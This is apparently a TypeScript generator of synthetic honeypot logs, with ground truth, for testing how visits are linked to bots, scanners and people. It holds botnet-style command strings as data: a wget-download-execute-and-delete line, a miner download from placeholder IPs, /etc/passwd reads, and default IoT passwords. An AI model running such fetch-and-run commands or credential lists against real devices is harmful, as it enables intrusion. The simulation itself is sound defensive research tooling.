/**
 * A simulated year at decoys, with the truth of who was who: infected devices whose addresses change and are given to others,
 * engines with many addresses, scanners that many people run, persons who come back for months with and without cookies, from
 * homes, phones and exits that they share, who read credentials here and use them there. It shares nothing with what links
 * visits but the form of events.
 */
import type { DecoyEvent, DecoyFields } from '../../model/decoy-event.ts';
import type { VisitorKind } from '../../model/visitor.ts';
import { Streams } from '../random.ts';
import {
  ADDRESSES_A_LEASE,
  BROWSERS,
  DYNAMIC_SHARE,
  FORGETFUL,
  HOME_LEASE_DAYS,
  INFECTED_DAYS,
  LEASE_DAYS,
  LISTED_ENGINES,
  MOBILE_ADDRESSES,
  OFFICE_PAIRS,
  PASSES_LURE,
  PERSON_LINES,
  POPULAR_MODBUS,
  SHARED_LINE,
  SSH_CLIENTS,
  TWO_BROWSERS,
  USES_LURE,
  type VisitOptions,
  VPN_EXITS,
} from './visit-options.ts';

export interface VisitTruth {
  /** Session -> number of its visitor. */
  readonly visitorOf: ReadonlyMap<string, number>;
  readonly kindOf: ReadonlyMap<number, VisitorKind>;
  /** Addresses of engines that a list names -> whose. */
  readonly listed: ReadonlyMap<string, string>;
}

const DAY_MS = 86_400_000;
const HOUR_MS = 3_600_000;
const START = Date.UTC(2025, 0, 1);

const DECOYS = {
  'plant-a': ['water-plant', '203.0.113.1'],
  'plant-b': ['water-plant', '203.0.113.2'],
  'cam-a': ['camera', '203.0.113.3'],
  'cam-b': ['camera', '203.0.113.4'],
  'shell-a': ['iot-shell', '203.0.113.5'],
  'shell-b': ['iot-shell', '203.0.113.6'],
} as const;
type Decoy = keyof typeof DECOYS;
const PLANTS: readonly Decoy[] = ['plant-a', 'plant-b'];
const WEB: readonly Decoy[] = ['plant-a', 'plant-b', 'cam-a', 'cam-b'];
const SHELLS: readonly Decoy[] = ['shell-a', 'shell-b'];

/** Four families: what each types is the same from thousands of devices. */
const FAMILIES = [
  [
    'enable',
    'system',
    'shell',
    'sh',
    '/bin/busybox ECCHI',
    '/bin/busybox ps; /bin/busybox ECCHI',
    'cat /proc/mounts; /bin/busybox ECCHI',
  ],
  ['cd /tmp || cd /var/run; wget http://192.0.2.14/8UsA.sh; chmod 777 8UsA.sh; sh 8UsA.sh; rm -rf *'],
  [
    'sh',
    '>/tmp/.s && cd /tmp; dd bs=52 count=1 if=/bin/echo || cat /bin/echo',
    'echo -ne "\\x7f\\x45\\x4c\\x46" >> .s',
  ],
  [
    'uname -s -v -n -r -m',
    'cat /proc/cpuinfo | grep name | wc -l',
    'wget http://198.51.100.9/min -O /tmp/min; chmod +x /tmp/min',
  ],
];
/** What persons try first, many of them the same. */
const COMMON_LINES = [
  'id',
  'uname -a',
  'ls -la',
  'cat /etc/passwd',
  'ps',
  'ifconfig',
  'netstat -an',
  'w',
  'df -h',
  'history',
];
const TOOLS = [
  ['nikto', 'Mozilla/5.00 (Nikto/2.5.0)'],
  ['sqlmap', 'sqlmap/1.7'],
  ['nmap', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)'],
  ['zgrab', 'Mozilla/5.0 zgrab/0.x'],
  ['nuclei', 'Mozilla/5.0 (Nuclei - Open-source)'],
] as const;

export function* generateVisits(options: VisitOptions): Generator<DecoyEvent, VisitTruth> {
  const world = new VisitWorld(options);
  world.bots();
  world.engines();
  world.scanners();
  world.persons();
  world.modbusClients();
  yield* world.events.sort((a, b) => (a.timestamp < b.timestamp ? -1 : a.timestamp > b.timestamp ? 1 : 0));
  return world;
}

type Step = readonly [afterMs: number, id: string, fields: DecoyFields];

interface Browser {
  readonly print: string;
  readonly agent: string;
  /** Null: forgets what it was given. */
  readonly mark: string | null;
}

class VisitWorld implements VisitTruth {
  readonly events: DecoyEvent[] = [];
  readonly visitorOf = new Map<string, number>();
  readonly kindOf = new Map<number, VisitorKind>();
  readonly listed = new Map<string, string>();
  readonly #options: VisitOptions;
  readonly #random: Streams;
  #sessions = 0;
  #marks = 0;
  #lures = 0;

  constructor(options: VisitOptions) {
    this.#options = options;
    this.#random = new Streams(1, options.seed);
  }

  bots(): void {
    const { bots, days } = this.#options;
    const leases = Math.ceil(bots * ADDRESSES_A_LEASE);
    for (let bot = 0; bot < bots; bot++) {
      const visitor = this.#visitor('bot');
      const family = FAMILIES[this.#below(FAMILIES.length)];
      const isDynamic = this.#unit() < DYNAMIC_SHARE;
      // Two of one household have one line.
      const line = bot > 0 && this.#unit() < SHARED_LINE ? bot - 1 : bot;
      let time = START + this.#unit() * days * DAY_MS;
      const end = Math.min(START + days * DAY_MS, time + this.#exponential(INFECTED_DAYS) * DAY_MS);
      let address = isDynamic ? address4(60, this.#below(leases)) : address4(80, line);
      let leaseEnds = time + this.#exponential(LEASE_DAYS) * DAY_MS;
      while (time < end) {
        if (isDynamic && time > leaseEnds) {
          address = address4(60, this.#below(leases));
          leaseEnds = time + this.#exponential(LEASE_DAYS) * DAY_MS;
        }
        this.#session(visitor, this.#of(SHELLS), 'telnet', address, time, this.#loaderSteps(family));
        time += this.#exponential(2.5) * DAY_MS;
      }
    }
  }

  engines(): void {
    const { engines, days } = this.#options;
    for (let engine = 0; engine < engines; engine++) {
      const visitor = this.#visitor('engine');
      const addresses = Array.from({ length: 3 + this.#below(12) }, (_, i) => address4(20 + engine, i));
      if (engine < LISTED_ENGINES) for (const one of addresses) this.listed.set(one, `engine ${engine}`);
      const print = digest(`engine ${engine}`);
      for (let day = 0; day < days; day += 1 + this.#below(4)) {
        const time = START + (day + this.#unit()) * DAY_MS;
        this.#session(visitor, this.#of(WEB), 'http', this.#of(addresses), time, [
          request('GET', '/', print, `Mozilla/5.0 (compatible; engine-${engine}/1.0)`),
        ]);
      }
    }
  }

  /** Everybody's tool, and his own run of it: once, and some of them again. */
  scanners(): void {
    const { scannerRuns, days } = this.#options;
    for (let run = 0; run < scannerRuns; run++) {
      const visitor = this.#visitor('scanner');
      const [tool, agent] = this.#of(TOOLS);
      const print = digest(`tool ${tool} ${this.#below(3)}`);
      let address = this.#unit() < 0.4 ? exit(this.#below(VPN_EXITS)) : address4(100, run);
      let time = START + this.#unit() * days * DAY_MS;
      do {
        const sessions = 1 + this.#below(4);
        for (let i = 0; i < sessions; i++) {
          const steps = Array.from({ length: 5 + this.#below(20) }, (_, n) =>
            request('GET', `/cgi-bin/${tool}-${n}`, print, agent, 404),
          );
          this.#session(visitor, this.#of(WEB), 'http', address, time, [
            [20, 'yamori.scanner', { name: tool, mark: 'user agent' }],
            ...steps,
          ]);
          time += (0.1 + this.#unit()) * HOUR_MS;
        }
        time += this.#exponential(8) * DAY_MS;
        if (this.#unit() < 0.4) address = exit(this.#below(VPN_EXITS));
      } while (this.#unit() < 0.25 && time < START + days * DAY_MS);
    }
  }

  persons(): void {
    const { persons } = this.#options;
    /** Somebody handed these on. */
    const passed: DecoyFields[] = [];
    for (let person = 0; person < persons; person++) {
      const visitor = this.#visitor('person');
      const isOffice = person > 0 && this.#unit() < OFFICE_PAIRS;
      const lure = this.#person(visitor, isOffice ? person - 1 : person);
      if (lure !== null && this.#unit() < PASSES_LURE) passed.push(lure);
    }
    for (const lure of passed) {
      const stranger = this.#visitor('person');
      this.#shellByHand(
        stranger,
        exit(this.#below(VPN_EXITS)),
        START + this.#unit() * 300 * DAY_MS,
        lure,
        'x',
      );
    }
  }

  /** Comes once, some times or for months; the credential that he read, if he did. */
  #person(visitor: number, line: number): DecoyFields | null {
    const { days } = this.#options;
    const browsers = Array.from({ length: this.#unit() < TWO_BROWSERS ? 2 : 1 }, () => this.#browser());
    const own = `own-${visitor}`;
    const roll = this.#unit();
    const visits = roll < 0.6 ? 1 : roll < 0.9 ? 2 + this.#below(5) : 7 + this.#below(30);
    const span = visits === 1 ? 0 : Math.min(200, this.#exponential(visits > 6 ? 90 : 15)) * DAY_MS;
    const begin = START + this.#unit() * Math.max(1, days * DAY_MS - span);
    const where = this.#unit();
    const addressAt = (time: number) =>
      where < PERSON_LINES.home
        ? address4(40, line * 16 + Math.floor((time - START) / (HOME_LEASE_DAYS * DAY_MS)))
        : where < PERSON_LINES.home + PERSON_LINES.mobile
          ? address4(50, this.#below(MOBILE_ADDRESSES))
          : exit(this.#below(VPN_EXITS));
    let lure: DecoyFields | null = null;
    const times = Array.from({ length: visits }, (_, i) => begin + (i === 0 ? 0 : this.#unit() * span)).sort(
      (a, b) => a - b,
    );
    // Who likes a place goes there again.
    const favourite = this.#of(WEB);
    for (const time of times) {
      const decoy = this.#unit() < 0.7 ? favourite : this.#of(WEB);
      const browser = this.#of(browsers);
      const readsNotes = lure === null && PLANTS.includes(decoy) && this.#unit() < 0.3;
      if (readsNotes) lure = this.#lure();
      this.#session(
        visitor,
        decoy,
        'http',
        addressAt(time),
        time,
        this.#browsing(browser, readsNotes ? lure : null),
      );
    }
    if (lure === null || this.#unit() > USES_LURE) return lure;
    const used = (times.at(-1) ?? begin) + this.#exponential(6) * DAY_MS;
    this.#shellByHand(visitor, addressAt(used), used, lure, own);
    // He found it good, and comes back to it without the pages.
    if (this.#unit() < 0.3)
      this.#shellByHand(visitor, addressAt(used), used + this.#exponential(10) * DAY_MS, lure, own);
    return lure;
  }

  #shellByHand(visitor: number, address: string, time: number, lure: DecoyFields, own: string): void {
    const ssh = this.#unit() < 0.5;
    const lines = Array.from({ length: 3 + this.#below(6) }, () => this.#of(COMMON_LINES));
    if (this.#unit() < 0.4) lines.push(`cd /tmp/${own}`);
    const client: Step[] = ssh
      ? [[50, 'cowrie.client.kex', { hassh: digest(`ssh ${this.#below(SSH_CLIENTS)}`) }]]
      : [];
    this.#session(visitor, this.#of(SHELLS), ssh ? 'ssh' : 'telnet', address, time, [
      ...client,
      [2_000, 'cowrie.login.success', { username: lure.username, password: lure.password }],
      [5, 'yamori.lure.used', lure],
      ...lines.map((input): Step => {
        const typed = Math.round(900 + this.#exponential(4_000));
        return [typed, 'cowrie.command.input', { input, typed_ms: typed }];
      }),
    ]);
  }

  modbusClients(): void {
    const { modbusClients, days } = this.#options;
    for (let client = 0; client < modbusClients; client++) {
      const visitor = this.#visitor('unclear');
      const isPopular = this.#unit() < POPULAR_MODBUS;
      const habit = isPopular
        ? [modbus(43, 0, 0), modbus(17, 0, 0)]
        : Array.from({ length: 3 + this.#below(5) }, () =>
            modbus(this.#of([1, 2, 3, 4]), this.#below(40) * 10, 1 + this.#below(60)),
          );
      let time = START + this.#unit() * days * DAY_MS * 0.8;
      const address = address4(120, client);
      const visits = 1 + this.#below(isPopular ? 2 : 8);
      for (let i = 0; i < visits; i++) {
        const from = this.#unit() < 0.7 ? address : exit(this.#below(VPN_EXITS));
        this.#session(visitor, this.#of(PLANTS), 'modbus', from, time, habit);
        time += this.#exponential(5) * DAY_MS;
      }
    }
  }

  #loaderSteps(family: readonly string[]): Step[] {
    const wrong = this.#below(5);
    return [
      ...Array.from(
        { length: wrong },
        (): Step => [
          300,
          'cowrie.login.failed',
          { username: 'root', password: this.#of(['xc3511', 'vizxv', 'admin', '888888', 'default']) },
        ],
      ),
      [300, 'cowrie.login.success', { username: 'root', password: 'root' }],
      ...family.map((input): Step => [40, 'cowrie.command.input', { input, typed_ms: 40 }]),
    ];
  }

  #browsing({ print, agent, mark }: Browser, lure: DecoyFields | null): Step[] {
    // What forgets is given a new mark each time.
    const visitor = mark ?? this.#mark();
    const pages = 1 + this.#below(8);
    const steps: Step[] = [];
    for (let i = 0; i < pages; i++) {
      const dwell = Math.round(2_000 + this.#exponential(15_000));
      steps.push(request('GET', `/page${i}.php`, print, agent, 200, dwell));
      steps.push([5, 'yamori.http.page', { page: `page${i}`, dwell_ms: dwell, visitor }]);
      if (i === 0) steps.push(request('GET', '/style.css', print, agent));
    }
    if (lure !== null) steps.push([3_000, 'yamori.lure.planted', { ...lure, visitor }]);
    return steps;
  }

  #browser(): Browser {
    // Popular ones are far more popular.
    const number = Math.min(BROWSERS - 1, Math.floor(BROWSERS * this.#unit() ** 3));
    return {
      print: digest(`browser ${number}`),
      agent: `Mozilla/5.0 browser ${number}`,
      mark: this.#unit() < FORGETFUL ? null : this.#mark(),
    };
  }

  #lure(): DecoyFields {
    const number = this.#lures++;
    return { place: 'maintenance-note', username: `s.${number}`, password: digest(`lure ${number}`) };
  }

  #mark(): string {
    return digest(`mark ${this.#options.seed} ${this.#marks++}`).slice(0, 12);
  }

  #visitor(kind: VisitorKind): number {
    const number = this.kindOf.size;
    this.kindOf.set(number, kind);
    return number;
  }

  #session(
    visitor: number,
    decoy: Decoy,
    protocol: string,
    address: string,
    at: number,
    steps: readonly Step[],
  ): void {
    const session = (0x100000000000 + this.#sessions++).toString(16);
    this.visitorOf.set(session, visitor);
    const [persona, dst_ip] = DECOYS[decoy];
    let time = at;
    for (const [after, eventid, fields] of [
      [0, 'cowrie.session.connect', {}] as const,
      ...steps,
      [200, 'cowrie.session.closed', {}] as const,
    ]) {
      time += after;
      this.events.push({
        ...fields,
        eventid,
        timestamp: `${new Date(time).toISOString().slice(0, -1)}000Z`,
        session,
        src_ip: address,
        src_port: 40_000,
        dst_ip,
        dst_port: 80,
        protocol,
        sensor: decoy,
        persona,
      } as DecoyEvent);
    }
  }

  #unit(): number {
    return this.#random.unit(0);
  }

  #below(n: number): number {
    return Math.floor(this.#unit() * n);
  }

  #of<Item>(items: readonly Item[]): Item {
    return items[this.#below(items.length)];
  }

  #exponential(mean: number): number {
    return -Math.log(this.#unit()) * mean;
  }
}

function request(
  method: string,
  url: string,
  client_print: string,
  user_agent: string,
  status = 200,
  after = 60,
): Step {
  return [after, 'yamori.http.request', { method, url, status, client_print, user_agent }];
}

function modbus(code: number, address: number, quantity: number): Step {
  return [30, 'yamori.modbus.request', { unit: 1, function: code, address, quantity }];
}

/** Networks of 65,536 addresses, by purpose, out of 10.0.0.0/8: nobody is meant. */
function address4(network: number, host: number): string {
  const at = host % 65_536;
  return `10.${network}.${at >> 8}.${at & 255}`;
}

function exit(number: number): string {
  return address4(30, number * 37);
}

/** 16 hexadecimal digits that look like a digest, and are the same for the same text (FNV-1a, twice). */
function digest(text: string): string {
  const half = (basis: number) => {
    let hash = basis;
    for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193);
    return (hash >>> 0).toString(16).padStart(8, '0');
  };
  return half(0x811c9dc5) + half(0x12345678);
}
